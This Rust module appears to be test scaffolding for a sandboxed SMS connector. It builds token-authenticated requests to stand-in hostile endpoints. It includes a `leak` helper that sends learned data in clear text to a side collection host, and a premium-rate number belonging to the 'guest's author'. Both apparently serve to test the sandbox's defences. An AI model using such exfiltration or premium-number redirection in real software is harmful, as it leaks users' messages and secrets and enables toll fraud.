//! The honest request that the behaviours modify.

use crate::bindings::sendbox::connector::config;
use crate::bindings::sendbox::connector::http_outbound::{self, Error, Header, Method, Request, RequestSent, Response};
use crate::bindings::sendbox::connector::sealed::{self, Encoding, Part, Sealed};
use crate::bindings::sendbox::connector::types::{Content, Failure, FailureClass, Message, Receipt};

/// The provider: a form with `To` (e164) and `Body`.
pub const API: &str = "https://api.hostile.test/v1/messages";
/// JSON with `/to` (e164), `/text` and `/ip`.
pub const JSON: &str = "https://api.hostile.test/json/messages";
/// JSON with `/recipients/0/msisdn` (digits) and `/message`.
pub const LIST: &str = "https://api.hostile.test/list/messages";
/// XML with `/request/to` (digits) and `/request/text`.
pub const XML: &str = "https://api.hostile.test/xml/messages";
/// A query with `to` (e164) and `text`.
pub const QUERY: &str = "https://api.hostile.test/query/messages";
/// A host that is granted, but receives neither the message nor a secret.
pub const SIDE: &str = "https://side.hostile.test/collect";

/// A premium number of the guest's author.
pub const SECOND: &str = "19005550199";

/// A literal part.
pub fn text(text: &str) -> Part<'static> {
    Part::Text(text.to_owned())
}

/// The tenant's token.
pub fn token() -> Sealed {
    config::secret("token").expect("the test gives a token")
}

/// The message's text, or the variable `code` in its place.
pub fn content(message: &Message) -> &Sealed {
    match &message.content {
        Content::Text(content) => &content.text,
        Content::Template(content) => &content.variables[0].value,
        Content::Variables(variables) => &variables[0].value,
    }
}

/// The value in the encoding of the form serialiser.
pub fn form(value: &Sealed) -> Sealed {
    value.encode(Encoding::Form)
}

/// The value as the content of a JSON string.
pub fn json(value: &Sealed) -> Sealed {
    value.encode(Encoding::JsonString)
}

/// The value percent-encoded, for a URL.
pub fn percent(value: &Sealed) -> Sealed {
    value.encode(Encoding::Percent)
}

/// `To=…&Body=…`, then `more`.
pub fn form_body(message: &Message, more: &str) -> Sealed {
    let (to, body) = (form(&message.recipient.e164), form(content(message)));
    sealed::concat(&[text("To="), Part::Sealed(&to), text("&Body="), Part::Sealed(&body), text(more)])
}

/// A header of literal text.
pub fn header<'a>(name: &str, value: Part<'a>) -> Header<'a> {
    Header { name: name.to_owned(), value: vec![value] }
}

/// `content-type` of a form.
pub fn form_type() -> Header<'static> {
    header("content-type", text("application/x-www-form-urlencoded"))
}

/// `POST` of a form, with the token.
pub fn post(url: Vec<Part<'_>>, body: &Sealed) -> Result<Response, Error> {
    post_with(url, vec![], Part::Sealed(body))
}

/// `POST` of anything, with the token if `headers` is empty.
pub fn post_with(url: Vec<Part<'_>>, headers: Vec<Header<'_>>, body: Part<'_>) -> Result<Response, Error> {
    let token = token();
    let headers = if headers.is_empty() {
        vec![Header { name: "authorization".into(), value: vec![text("Bearer "), Part::Sealed(&token)] }, form_type()]
    } else {
        headers
    };
    http_outbound::send(&Request { method: Method::Post, url, headers, body: vec![body] })
}

/// `POST` of a body in parts and of this type, with the token.
pub fn post_parts(url: &str, content_type: &str, body: Vec<Part<'_>>) -> Result<Response, Error> {
    let token = token();
    let headers = vec![
        Header { name: "authorization".into(), value: vec![text("Bearer "), Part::Sealed(&token)] },
        header("content-type", text(content_type)),
    ];
    http_outbound::send(&Request { method: Method::Post, url: vec![text(url)], headers, body })
}

/// `POST` of JSON: `before`, the number, `between`, the text, `after`.
pub fn post_json(message: &Message, before: &str, between: &str, after: &str) -> Result<Response, Error> {
    let (to, encoded_text) = (json(&message.recipient.e164), json(content(message)));
    let body = vec![text(before), Part::Sealed(&to), text(between), Part::Sealed(&encoded_text), text(after)];
    post_parts(JSON, "application/json", body)
}

/// `POST` of XML: `before`, the number, `between`, the text, `after`.
pub fn post_xml(message: &Message, before: &str, between: &str, after: &str) -> Result<Response, Error> {
    let to = &message.recipient.digits;
    let body = vec![text(before), Part::Sealed(to), text(between), Part::Sealed(content(message)), text(after)];
    post_parts(XML, "application/xml", body)
}

/// Exfiltrates what was learned: a `GET` request to the side host, in clear text.
pub fn leak(learned: &str) -> Result<Response, Error> {
    let url = vec![text(SIDE), text("/"), text(learned)];
    http_outbound::send(&Request { method: Method::Get, url, headers: vec![], body: vec![] })
}

/// A `GET` request to the side host.
pub fn get_side() -> Result<Response, Error> {
    http_outbound::send(&Request { method: Method::Get, url: vec![text(SIDE)], headers: vec![], body: vec![] })
}

/// The honest result for a response. A failure's text contains everything that this connector learned.
pub fn answer(result: Result<Response, Error>) -> Result<Receipt, Failure> {
    match result {
        Ok(response) if (200..300).contains(&response.status) => {
            Ok(Receipt { status: Some(format!("status {}", response.status)), ..receipt() })
        }
        Ok(response) => Err(Failure {
            provider_code: Some(response.status.to_string()),
            ..failure(FailureClass::InvalidRequest, &String::from_utf8_lossy(&response.body))
        }),
        Err(error) => Err(failure(FailureClass::NotSent, &describe(&error))),
    }
}

/// `ErrorKind::Dns/no`
pub fn describe(error: &Error) -> String {
    let sent = match error.request_sent {
        RequestSent::No => "no",
        RequestSent::Maybe => "maybe",
    };
    format!("{:?}/{sent}", error.kind)
}

/// An empty receipt.
pub fn receipt() -> Receipt {
    Receipt { message_id: Some("m-1".into()), status: None, segments: None, price: None }
}

/// A failure with this text.
pub fn failure(class: FailureClass, text: &str) -> Failure {
    Failure { class, provider_code: None, text: Some(text.to_owned()), retry_after_seconds: None }
}
